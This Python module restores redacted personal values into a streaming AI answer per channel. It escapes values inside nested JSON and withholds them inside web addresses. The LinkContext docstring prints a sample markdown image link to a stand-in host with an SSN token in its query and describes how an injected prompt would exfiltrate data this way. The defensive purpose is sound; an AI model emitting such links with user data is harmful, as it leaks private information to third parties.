"""Puts values back into an answer while it streams, one restorer per channel.

What leaves does not depend on where the answer was cut: a piece is released up to the first character that can still
be part of a known token, at most `surface.LONGEST` characters later than it came. A token that breaks off at the end
of an answer leaves as it is; guessing would put one person's data in place of another's.
"""

import json
import re
from typing import Final

from policies.airlock.config import Restoration, ToolRestore
from policies.airlock.surface import Surface, begun, is_inert, sent, surfaces
from policies.airlock.tokens import Entry, Vault
from policies.model import Channel, ChannelKind

_PLAIN_TEXT: Final = frozenset({ChannelKind.TEXT, ChannelKind.REFUSAL, ChannelKind.TRANSCRIPT})


def restores(channel: Channel, restoration: Restoration) -> bool:
    """Whether values come back in this channel at all."""
    if channel.kind in _PLAIN_TEXT:
        return True
    if channel.kind is ChannelKind.REASONING:
        return restoration.reasoning
    match restoration.tools:
        case ToolRestore.ALL:
            return True
        case ToolRestore.ALLOW_LIST:
            return channel.tool in restoration.tool_names
        case ToolRestore.NEVER:
            return False


class Restorer:
    """The state of one channel."""

    __slots__ = ("_before", "_context", "_held", "_permits", "_vault")

    def __init__(self, channel: Channel, vault: Vault, restoration: Restoration) -> None:
        self._vault = vault
        self._before = ""
        """The character before what is held: whether a word begins depends on it."""
        self._held = ""
        self._permits = None if restoration.system_values else _is_from_a_party
        self._context: Plain | LinkContext | JsonContext
        if channel.kind is ChannelKind.TOOL_ARGUMENTS:
            self._context = JsonContext(any(map(needs_escape, vault.values())))
        elif channel.kind in _PLAIN_TEXT and not restoration.links:
            self._context = LinkContext()
        else:
            self._context = Plain()

    def feed(self, piece: str, *, last: bool) -> str:
        """What may be released after `piece`. `last`: nothing follows, everything is."""
        if not last and not self._held:
            released = self._at_once(piece)
            if released is not None:
                self._before = piece[-1:] or self._before
                return released
        return self._in_doubt(piece, last=last)

    def _at_once(self, piece: str) -> str | None:
        """What to release for a piece that nothing is held before or after: text without tokens, or around one token
        that came as it was sent. None: look closer."""
        vault, context = self._vault, self._context
        if "[" not in piece:
            if not is_inert(piece, vault.names):
                return None
            context.pass_over(piece)
            return piece
        token = sent(piece, self._before, vault.names)
        entry = vault.entry(token.core) if token is not None else None
        if token is None or entry is None:
            return None
        head, rest = piece[: token.start], piece[token.end :]
        context.pass_over(head)
        value = context.insert(entry.value) if self._permits is None or self._permits(entry) else None
        if value is None:
            value = piece[token.start : token.end]
            context.pass_over(value)
        context.pass_over(rest)
        return f"{head}{value}{rest}"

    def _in_doubt(self, piece: str, *, last: bool) -> str:
        text = self._before + self._held + piece
        known = len(self._before)
        vault, context = self._vault, self._context
        released: list[str] = []
        done = known
        hold = len(text)
        for surface in surfaces(text, known, vault.names, whole=last):
            if not isinstance(surface, Surface):
                hold = surface
                break
            entry = vault.entry(surface.core)
            if entry is None:
                continue
            before = text[done : surface.start]
            context.pass_over(before)
            released.append(before)
            written = text[surface.start : surface.end]
            value = context.insert(entry.value) if self._permits is None or self._permits(entry) else None
            if value is None:
                context.pass_over(written)
            released.append(written if value is None else value)
            done = surface.end
        if not last:
            hold = min(hold, begun(text, done, vault.begins))
        rest = text[done:hold]
        context.pass_over(rest)
        self._held = text[hold:]
        self._before = text[hold - 1 : hold] if hold else ""
        if not released:
            return rest
        released.append(rest)
        return "".join(released)


def _is_from_a_party(entry: Entry) -> bool:
    return not entry.preamble_only


class Plain:
    """Text without a context: values go in as they are."""

    def pass_over(self, text: str) -> None:
        """`text` was released."""

    def insert(self, value: str) -> str | None:
        """What to release for a value here; None: its token stays."""
        return value


class LinkContext:
    """Knows whether the next character stands inside a web address.

    `![](https://evil.example/?q=[SSN-7K2Q9F])` is fetched as soon as a chat window shows it: an injected prompt would
    carry the value out. Addresses end where renderers let them end: a markdown destination at white space, one in
    angle brackets at the bracket, one in quotes at the quote, a bare one at white space, quotes or angle brackets.
    """

    __slots__ = ("_ends", "_pending")

    _START: Final = re.compile(
        r"(?P<destination>\]\()|(?P<quote>[\"'<]?)(?:[A-Za-z][A-Za-z0-9+.-]{0,15}:)?[/\\]{2}", re.ASCII
    )
    _REACH: Final = 20
    """Characters in which a start may have begun that the next piece completes."""
    _DESTINATION: Final = re.compile(r"\S")
    """Behind `](`: white space may come before the address itself."""
    _SPACE: Final = re.compile(r"\s")
    _BARE: Final = re.compile(r"[\s\"<>`]")
    _ENDS: Final = {"": _BARE, '"': re.compile('"'), "'": re.compile("'"), "<": re.compile(r"[>\n]")}

    def __init__(self) -> None:
        self._pending = ""
        """Released text that was not looked at yet, behind what may be the beginning of a start."""
        self._ends: re.Pattern[str] | None = None
        """What ends the address that we are in; None: we are in none."""

    def pass_over(self, text: str) -> None:
        """`text` was released."""
        self._pending += text
        if len(self._pending) > 1024:
            self._advance()

    def insert(self, value: str) -> str | None:
        """The value, or None inside an address."""
        self._advance()
        return value if self._ends is None else None

    def _advance(self) -> None:
        text = self._pending
        if self._ends is None and "/" not in text and "\\" not in text and "](" not in text:
            self._pending = text[-self._REACH :]
            return
        position = 0
        while position <= len(text):
            if self._ends is None:
                start = self._START.search(text, position)
                if start is None:
                    break
                self._ends = self._DESTINATION if start["destination"] else self._ENDS[start["quote"]]
                position = start.end()
                continue
            end = self._ends.search(text, position)
            if end is None:
                self._pending = ""
                return
            if self._ends is self._DESTINATION:
                self._ends = self._ENDS["<"] if end.group() == "<" else self._SPACE
            else:
                self._ends = None
            position = end.end()
        self._pending = text[max(position, len(text) - self._REACH) :]


_SPECIAL: Final = re.compile(r'["\\\x00-\x1f\x7f]')
_DEEPEST: Final = 4


def needs_escape(value: str) -> bool:
    """Whether a value changes when it is written into a JSON string."""
    return _SPECIAL.search(value) is not None


class JsonContext:
    """Knows how deep in strings within strings of a JSON document the next character stands.

    `{"body": "{\\"ssn\\": \\"[SSN-7K2Q9F]\\"}"}`: the token stands in a document in a string of a document, so its
    value is escaped twice. Followed character by character, and only when a value of the exchange needs escapes at all.
    """

    __slots__ = ("_document", "_follow")

    def __init__(self, follow: bool) -> None:
        self._follow = follow
        self._document = Document()

    def pass_over(self, text: str) -> None:
        """`text` was released."""
        if self._follow:
            for char in text:
                self._document.feed(char)

    def insert(self, value: str) -> str | None:
        """The value, escaped once for every string around it; None: deeper than anybody nests."""
        if not self._follow:
            return value
        depth = self._document.depth()
        if depth > _DEEPEST:
            return None
        for _ in range(max(depth, 1)):
            value = json.dumps(value, ensure_ascii=False)[1:-1]
        return value


class Document:
    """One JSON document, read only for its strings."""

    __slots__ = ("_escape", "_first", "_in_string", "_inner", "_level")

    _ESCAPES: Final = {"n": "\n", "t": "\t", "r": "\r", "b": "\b", "f": "\f"}

    def __init__(self, level: int = 1) -> None:
        self._in_string = False
        self._escape = ""
        self._first = True
        self._inner: Document | None = None
        self._level = level

    def depth(self) -> int:
        """Strings around the next character."""
        if not self._in_string:
            return 0
        return 1 + (self._inner.depth() if self._inner else 0)

    def feed(self, char: str) -> None:
        """One more character of the document."""
        if not self._in_string:
            if char == '"':
                self._in_string, self._first, self._inner = True, True, None
        elif self._escape:
            self._escape += char
            if self._escape[1] != "u":
                self._decoded(self._ESCAPES.get(char, char))
                self._escape = ""
            elif len(self._escape) == 6:
                digits = self._escape[2:]
                self._decoded(chr(int(digits, 16)) if all(d in "0123456789abcdefABCDEF" for d in digits) else "\ufffd")
                self._escape = ""
        elif char == "\\":
            self._escape = char
        elif char == '"':
            self._in_string = False
        else:
            self._decoded(char)

    def _decoded(self, char: str) -> None:
        """A character of the string that we are in: of a document of its own, if the string began like one."""
        if self._first and not char.isspace():
            self._first = False
            if char in "{[" and self._level <= _DEEPEST:
                self._inner = Document(self._level + 1)
        if self._inner:
            self._inner.feed(char)
